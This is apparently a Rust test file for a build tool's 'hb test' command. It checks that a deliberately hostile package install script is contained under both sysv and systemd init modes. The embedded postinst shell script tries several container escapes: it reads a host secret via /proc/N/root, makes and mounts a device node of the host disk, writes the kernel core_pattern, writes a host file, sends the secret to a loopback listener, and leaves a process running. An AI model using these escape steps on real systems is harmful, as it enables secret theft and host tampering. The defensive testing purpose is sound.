//! `hb test` against a hostile package: demosite with a postinst that tries to read a
//! secret file of the build machine through /proc/N/root or by mounting the machine's
//! disk from a device node it makes, write a host-wide kernel setting (core_pattern,
//! its same value), write a file through /proc/N/root, connect to a listener on the
//! machine's 127.0.0.1 and leave a process running after hb returns (its standard
//! output still open, so that hb must not wait for it either). Under both init modes none of it may succeed, and the package, whose
//! attacks come to nothing, still passes its install test.

use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::harness::{Ws, show};

/// What the package may not reach, planted on the build machine.
struct Canary {
    dir: tempfile::TempDir,
    secret: String,
    /// The port of the listener on the machine's loopback, and what connected to it.
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
    /// The argument of the `sleep` the package tries to leave running.
    sleep: String,
}

impl Canary {
    fn plant(tag: u16) -> Canary {
        let dir = tempfile::Builder::new().prefix("hb-hostile-canary").tempdir().unwrap();
        let nonce = format!("{}{tag}", std::process::id());
        let secret = format!("hb-canary-secret-{nonce}");
        std::fs::write(dir.path().join("secret"), &secret).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_secs(3)));
                let mut got = String::new();
                let _ = stream.read_to_string(&mut got);
                log.lock().unwrap().push(format!("a connection from {:?} sending {got:?}", stream.peer_addr()));
            }
        });
        Canary { dir, secret, port, seen, sleep: format!("1000.{nonce}") }
    }

    fn written(&self) -> std::path::PathBuf {
        self.dir.path().join("written")
    }

    /// The postinst: every attack, then hb's part. What it achieved (a secret read, a
    /// device node made, a kernel setting written) is printed and fails the install, so
    /// that it shows in hb test's output.
    fn postinst(&self, kernel: bool) -> String {
        let secret = self.dir.path().join("secret");
        let dir = self.dir.path();
        // The block device holding the secret, for a script that may make its node.
        let dev = std::fs::metadata(dir).unwrap().dev();
        format!(
            r#"#!/bin/sh
found=''
for r in /proc/1/root /proc/[0-9]*/root; do
  secret=$(cat "$r{secret}" 2>/dev/null) && [ -n "$secret" ] && break
done
[ -n "$secret" ] && found="$found the host's secret, read through /proc: $secret;"
if mknod /tmp/hb-disk b {major} {minor} 2>/dev/null; then
  found="$found made a node of the host's disk;"
  mkdir -p /tmp/hb-mnt
  if mount -o ro /tmp/hb-disk /tmp/hb-mnt 2>/dev/null; then
    disk=$(cat "/tmp/hb-mnt{secret}" 2>/dev/null) && found="$found the host's secret, read through disk: $disk;"
    umount /tmp/hb-mnt
  fi
  rm -rf /tmp/hb-disk /tmp/hb-mnt
fi
pattern=$(cat /proc/sys/kernel/core_pattern)
if [ {kernel} = no ]; then
  :
elif printf '%s\n' "$pattern" >/proc/sys/kernel/core_pattern 2>/dev/null; then
  found="$found wrote the host kernel's core_pattern;"
elif mkdir -p /tmp/hb-proc && mount -t proc proc /tmp/hb-proc 2>/dev/null; then
  printf '%s\n' "$pattern" >/tmp/hb-proc/sys/kernel/core_pattern 2>/dev/null &&
    found="$found wrote the host kernel's core_pattern;"
  umount /tmp/hb-proc
fi
rmdir /tmp/hb-proc 2>/dev/null
for r in /proc/1/root /proc/[0-9]*/root; do
  [ -d "$r{dir}" ] && echo "written by a package: $secret" >"$r{dir}/written" 2>/dev/null && break
done
python3 -c 'import socket, sys; socket.create_connection(("127.0.0.1", {port}), 3).sendall(sys.argv[1].encode())' "loot [$secret]" 2>/dev/null || true
setsid sleep {sleep} &
if [ -n "$found" ]; then echo "hostile postinst:$found" >&2; exit 1; fi
set -e
#HB#
"#,
            secret = secret.display(),
            dir = dir.display(),
            port = self.port,
            sleep = self.sleep,
            kernel = if kernel { "yes" } else { "no" },
            major = libc::major(dev),
            minor = libc::minor(dev),
        )
    }

    /// Host processes whose command line holds the package's `sleep` argument.
    fn left_running(&self) -> Vec<(i32, String)> {
        let mut found = Vec::new();
        for e in hb_fs::read_dir_sorted(Path::new("/proc")).unwrap_or_default() {
            let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else { continue };
            let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
            let cmd = String::from_utf8_lossy(&cmd).replace('\0', " ");
            if cmd.contains(&self.sleep) {
                found.push((pid, cmd.trim().to_string()));
            }
        }
        found
    }

    /// What the package achieved, as one line each.
    fn breaches(&self, output: &str) -> Vec<String> {
        let mut v = Vec::new();
        if output.contains(&format!("read through /proc: {}", self.secret)) {
            v.push(format!("(a) the host's secret {:?}, read through /proc, is in hb test's output", self.secret));
        } else if output.contains(&self.secret) {
            v.push(format!("(a) the host's secret {:?} is in hb test's output", self.secret));
        }
        if output.contains("made a node of the host's disk") {
            v.push("(e) the package made a device node of the host's disk (root could then mount it)".into());
        }
        if output.contains("read through disk") {
            v.push("(e) the package mounted the host's disk and read the secret from it".into());
        }
        if output.contains("wrote the host kernel's core_pattern") {
            v.push("(f) the package wrote the host kernel's /proc/sys/kernel/core_pattern (its same value)".into());
        }
        if self.written().exists() {
            let text = std::fs::read_to_string(self.written()).unwrap_or_default();
            v.push(format!("(b) the host file {} was written: {:?}", self.written().display(), text.trim()));
        }
        let seen = self.seen.lock().unwrap().clone();
        if !seen.is_empty() {
            v.push(format!("(c) the listener on the host's 127.0.0.1:{} saw {}", self.port, seen.join("; ")));
        }
        let left = self.left_running();
        for (pid, cmd) in &left {
            v.push(format!("(d) the package's process {pid} `{cmd}` runs on the host after hb test"));
            // SAFETY: kill has no memory effects.
            unsafe {
                libc::kill(*pid, libc::SIGKILL);
            }
        }
        v
    }
}

/// `kernel`: whether the postinst also tries to write a kernel setting (always, now
/// that root in either container is not the machine's root; kept to show a gap again).
fn hostile_postinst_is_contained(init: &str, service_port: u16, kernel: bool) {
    let canary = Canary::plant(service_port);
    let ws = Ws::demosite();
    let build = std::fs::read_to_string(ws.path("demosite/BUILD.toml")).unwrap();
    let build = build.replace("port = 8000", &format!("port = {service_port}"));
    ws.write("demosite/BUILD.toml", &format!("{build}\n[deb.scripts]\npostinst = \"postinst.sh\"\n"));
    ws.write("demosite/postinst.sh", &canary.postinst(kernel));
    let out = ws.cmd().args(["test", "//demosite:deb", "--init", init]).output().unwrap();
    let text = format!("{}\n{}", show(&out), String::from_utf8_lossy(&out.stderr));
    let breaches = canary.breaches(&text);
    assert!(breaches.is_empty(), "--init {init}: the hostile postinst got out:\n  {}\n{text}", breaches.join("\n  "));
    assert!(out.status.success(), "--init {init}: the contained package should pass:\n{text}");
    assert!(text.contains("nothing of it left running"), "--init {init}: {text}");
}

#[test]
fn hostile_postinst_is_contained_in_the_chroot() {
    hostile_postinst_is_contained("sysv", 8076, true);
}

#[test]
fn hostile_postinst_is_contained_under_systemd() {
    hostile_postinst_is_contained("systemd", 8077, true);
}
